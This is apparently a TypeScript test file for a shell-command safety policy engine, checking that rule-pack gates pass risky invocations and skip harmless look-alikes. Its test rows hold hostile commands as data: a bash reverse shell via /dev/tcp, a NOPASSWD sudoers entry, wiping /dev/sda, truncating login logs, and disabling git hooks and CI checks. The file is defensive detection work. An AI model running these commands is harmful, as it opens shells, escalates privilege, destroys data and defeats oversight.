import { strict as assert } from 'node:assert';
import { analyze } from '../../../src/core/policy/analyze';
import { findingsOf } from '../../../src/core/policy/classify';
import { passesGate, setPackGates } from '../../../src/core/policy/packGates';
import type { Invocation, RulePack } from '../../../src/core/policy/types';
import { RULE_PACKS } from '../../../src/core/rules/index';
import { corpusCommands } from '../support/corpusCommands';
import { testFacts } from '../support/policyFixtures';
import { realContext } from '../support/packRun';

/**
 * Per-pack gates (RulePack.gate, policy/packGates.ts): the engine skips a pack for an invocation whose
 * name and argument words cannot give it a finding. Proved here by construction over every corpus
 * command (and every invocation the analysis finds in it): what a gate turns away, the pack's own check
 * finds nothing in; and the engine's findings are the same with gates on and off.
 */

const facts = testFacts();


function inv(name: string, args: string[]): Invocation {
  return { name, command: name, args: args.map((text) => ({ text, raw: text, dynamic: false, glob: false })), assignments: {}, redirects: [], via: [], origin: { kind: 'command' }, cwd: '/work/app' };
}

const gated = (): RulePack[] => RULE_PACKS.filter((p) => p.gate && p.checkInvocation);

describe('per-pack gates (s30 perf)', () => {
  afterEach(() => setPackGates(true));

  it('the gated packs: at least access, safety-net, frameworks, checks-removed, commit-hooks and host; no stateful regex flag', () => {
    const ids = gated().map((p) => p.id);
    for (const id of ['access', 'safety-net', 'frameworks', 'checks-removed', 'commit-hooks', 'host']) assert.ok(ids.includes(id), `${id} declares a gate`);
    for (const p of gated()) assert.ok(!p.gate!.words?.global && !p.gate!.words?.sticky, `${p.id}: a g or y flag makes test() stateful`);
  });

  // Rows: a name or a word lets the pack in; a look-alike without either is turned away.
  const ROWS: { pack: string; name: string; args: string[]; passes: boolean }[] = [
    { pack: 'access', name: 'aws', args: ['s3', 'ls'], passes: true },
    { pack: 'access', name: 'doctl', args: ['compute', 'firewall', 'add-rules', 'fw', '--inbound-rules', 'protocol:tcp,ports:5432,address:0.0.0.0/0'], passes: true },
    { pack: 'access', name: 'ufw', args: ['allow', 'from', '::/0'], passes: true },
    { pack: 'access', name: 'doctl', args: ['compute', 'firewall', 'add-rules', 'fw', '--inbound-rules', 'protocol:tcp,ports:5432,address:10.0.0.0/8'], passes: false },
    { pack: 'access', name: 'ls', args: ['-la'], passes: false },
    { pack: 'safety-net', name: 'curl', args: ['https://api.example.com'], passes: true },
    { pack: 'safety-net', name: 'restic', args: ['snapshots'], passes: true },
    { pack: 'safety-net', name: 'doctl', args: ['databases', 'update', 'db', '--BackupRetention=0'], passes: true },
    { pack: 'safety-net', name: 'rpk', args: ['topic', 'alter-config', 't', '--set', 'retention.ms=1'], passes: true },
    { pack: 'safety-net', name: 'mc', args: ['anonymous', 'set', 'public', 'local/b'], passes: true },
    { pack: 'safety-net', name: 'gsutil', args: ['iam', 'ch', 'allUsers:objectViewer', 'gs://b'], passes: true },
    { pack: 'safety-net', name: 'kafka-configs', args: ['--alter', '--add-config', 'cleanup.policy=compact'], passes: true },
    { pack: 'safety-net', name: 'cargo', args: ['build', '--release'], passes: false },
    { pack: 'frameworks', name: 'python3.12', args: ['manage.py', 'flush'], passes: true },
    { pack: 'frameworks', name: 'shop', args: ['eval', 'Repo.delete_all(User)'], passes: true },
    { pack: 'frameworks', name: 'rails', args: ['db:drop'], passes: true },
    { pack: 'frameworks', name: 'shop', args: ['start', 'eval'], passes: true },
    { pack: 'frameworks', name: 'shop', args: ['start'], passes: false },
    { pack: 'frameworks', name: 'pythonista', args: ['manage.py', 'flush'], passes: false },
    { pack: 'safety-net', name: 'kubectl', args: ['get', 'pods', '-n', 'web'], passes: false },
  ];
  for (const row of ROWS) {
    it(`${row.pack}: ${row.name} ${row.args.join(' ')} → ${row.passes ? 'called' : 'skipped'}`, () => {
      const pack = RULE_PACKS.find((p) => p.id === row.pack)!;
      assert.equal(passesGate(pack.gate!, inv(row.name, row.args)), row.passes);
    });
  }

  // Rows through the shell analysis (effects and redirects): the first invocation of each command.
  const COMMAND_ROWS: { pack: string; command: string; passes: boolean }[] = [
    { pack: 'checks-removed', command: 'rm .github/workflows/ci.yml', passes: true },
    { pack: 'checks-removed', command: 'git mv .github/workflows/ci.yml old.yml', passes: true },
    { pack: 'checks-removed', command: 'echo "* @me" > CODEOWNERS', passes: true },
    { pack: 'checks-removed', command: 'cp /tmp/ci.yml .github/workflows/ci.yml', passes: true },
    { pack: 'checks-removed', command: "sed -i '/jest/d' .github/workflows/ci.yml", passes: true },
    { pack: 'checks-removed', command: 'npm pkg set scripts.test=true', passes: true },
    { pack: 'checks-removed', command: 'cat .github/workflows/ci.yml', passes: false },
    { pack: 'checks-removed', command: 'ls -la .github/workflows', passes: false },
    { pack: 'checks-removed', command: 'grep -r jest .github', passes: false },
    { pack: 'commit-hooks', command: 'rm -rf .git/hooks', passes: true },
    { pack: 'commit-hooks', command: 'chmod -x .husky/pre-commit', passes: true },
    { pack: 'commit-hooks', command: 'echo exit 0 > .git/hooks/pre-commit', passes: true },
    { pack: 'commit-hooks', command: 'git commit --no-verify -m x', passes: true },
    { pack: 'commit-hooks', command: 'husky uninstall', passes: true },
    { pack: 'commit-hooks', command: 'cat .git/hooks/pre-commit', passes: false },
    { pack: 'commit-hooks', command: 'ls .husky', passes: false },
    { pack: 'host', command: 'reboot', passes: true },
    { pack: 'host', command: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', passes: true },
    { pack: 'host', command: 'echo "dev ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/dev', passes: true },
    { pack: 'host', command: 'cp /dev/zero /dev/sda', passes: true },
    { pack: 'host', command: 'truncate -s0 /var/log/wtmp', passes: true },
    { pack: 'host', command: 'python3.12 -c "import socket,subprocess"', passes: true },
    { pack: 'host', command: 'cat /etc/sudoers', passes: false },
    { pack: 'host', command: 'git status', passes: false },
  ];
  for (const row of COMMAND_ROWS) {
    it(`${row.pack}: ${row.command} → ${row.passes ? 'called' : 'skipped'}`, () => {
      const pack = RULE_PACKS.find((p) => p.id === row.pack)!;
      const first = analyze(row.command, facts).invocations[0]!;
      assert.equal(passesGate(pack.gate!, first), row.passes);
    });
  }

  it('gates off: every pack is let in', () => {
    setPackGates(false);
    for (const p of gated()) assert.equal(passesGate(p.gate!, inv('ls', ['-la'])), true);
  });

  it('what a gate turns away, its pack finds nothing in (every invocation of every corpus command)', function () {
    this.timeout(600_000);
    const ctx = realContext(facts);
    const packs = gated();
    let turnedAway = 0;
    for (const command of corpusCommands()) {
      for (const invocation of analyze(command, facts).invocations) {
        for (const pack of packs) {
          if (passesGate(pack.gate!, invocation)) continue;
          turnedAway++;
          const found = pack.checkInvocation!(invocation, ctx);
          assert.deepEqual(found, [], `${pack.id} gate turns ${invocation.name} away but the pack finds in ${command.slice(0, 200)}: ${JSON.stringify(found).slice(0, 300)}`);
        }
      }
    }
    assert.ok(turnedAway > 5_000, `${turnedAway} invocations turned away`);
  });

  it('the engine finds the same with gates on and off (every corpus command, gated packs)', function () {
    this.timeout(600_000);
    const packs = gated();
    for (const command of corpusCommands()) {
      const analysis = { ...analyze(command, facts), opaque: [] };
      setPackGates(true);
      const on = findingsOf(analysis, facts, packs);
      setPackGates(false);
      const off = findingsOf(analysis, facts, packs);
      assert.deepEqual(on, off, command.slice(0, 200));
    }
  });
});
